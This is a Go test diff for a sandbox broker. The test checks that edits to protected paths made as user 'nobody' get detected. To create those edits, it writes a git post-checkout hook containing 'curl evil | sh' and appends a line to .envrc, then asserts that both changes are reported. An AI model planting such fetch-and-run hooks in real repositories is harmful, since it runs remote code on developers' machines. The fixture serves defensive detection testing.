@@ -79,3 +79,33 @@ func TestBrokerProtectedPathsChangesAreListed(t *testing.T) {
 		t.Fatalf("its receipt: %+v", rc.Protected)
 	}
 }
+
+// TestBrokerProtectedPathsChangesAreListedAsUser: the same detection for
+// an ordinary user's embedded broker (uid 65534).
+func TestBrokerProtectedPathsChangesAreListedAsUser(t *testing.T) {
+	u := asNobody(t)
+	if err := os.MkdirAll(filepath.Join(u.ws, ".git", "hooks"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(u.ws, ".envrc"), []byte("export A=1\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	u.chownHome()
+	res := u.run("/bin/sh", "-c", "echo 'curl evil | sh' > .git/hooks/post-checkout && echo 'export EVIL=1' >> .envrc")
+	if res.Outcome != "exited" || res.ExitCode == nil || *res.ExitCode != 0 {
+		t.Fatalf("the target must run: %s %+v\n%s", res.Outcome, res.Error, res.Stderr.Text)
+	}
+	got := map[string]wire.ProtectedChange{}
+	for _, c := range res.ProtectedChanges {
+		got[c.Path] = c
+	}
+	if c := got[".git/hooks/post-checkout"]; c.Before != "absent" || !strings.HasPrefix(c.After, "sha256:") {
+		t.Errorf("the new hook: %+v", c)
+	}
+	if c := got[".envrc"]; !strings.HasPrefix(c.Before, "sha256:") || c.After == c.Before {
+		t.Errorf("the edited .envrc: %+v", c)
+	}
+	if len(res.ProtectedChanges) != 2 {
+		t.Errorf("changes %+v, want the hook and .envrc alone", res.ProtectedChanges)
+	}
+}
